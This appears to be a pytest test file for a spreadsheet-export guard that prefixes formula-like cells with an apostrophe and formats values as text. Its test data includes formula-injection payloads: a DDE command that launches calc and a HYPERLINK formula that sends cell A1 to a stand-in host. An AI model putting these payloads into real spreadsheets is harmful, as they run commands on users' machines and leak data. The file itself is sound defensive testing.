"""Cells: what a spreadsheet must not run, and what a value is as text."""

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from layers.exports.cells import as_cell, as_text, guarded

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://a.example/?"&A1,"見る")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+81-233-22-2111",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "-",
    "--1",
    "-１",
]
PLAIN = [
    "",
    "図書館",
    "-12.5",
    "+3",
    "-1e5",
    "-.5",
    "1-2",
    "a=b",
    "'=1",
    "50%",
    "-",
    "－",
    "--",
    " ",
]


@pytest.mark.parametrize("text", [text for text in FORMULAS if text != "-"])
def test_a_cell_that_may_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_dashes_and_plain_text_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


@given(st.text(alphabet="=+-@\t\r\n＝＋－＠ \u3000\ufeff0123456789.eEaあ'", max_size=12))
def test_no_guarded_cell_begins_as_a_formula_unless_it_is_a_number_or_dashes(text: str) -> None:
    found = guarded(text)
    bare = found.lstrip(" \u3000\ufeff")
    if bare[:1] in set("=+-@\t\r\n＝＋－＠") - {""} and bare:
        assert (
            re.fullmatch(r"[-－]+[ \u3000\ufeff]*", bare) or float(bare.strip(" \u3000\ufeff")) + 1
        )
    assert guarded(found) == found


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        ("０１", "０１"),
        (1, "1"),
        (5.0, "5.0"),
        (-12.5, "-12.5"),
        (True, "1"),
        (False, "0"),
        (["内科", "外科"], "内科;外科"),
        ([1, None, True], "1;;1"),
        ({"b": 1, "a": "あ"}, '{"a":"あ","b":1}'),
    ],
)
def test_a_value_is_written_as_the_standard_writes_it(value: Any, text: str) -> None:
    assert as_text(value) == text


def test_yes_and_no_are_ari_and_nashi_where_the_column_asks_so() -> None:
    assert [as_cell("一時預かりの有無", value) for value in (True, False, None)] == ["有", "無", ""]
    assert as_cell("災害種別_洪水", True) == "1"
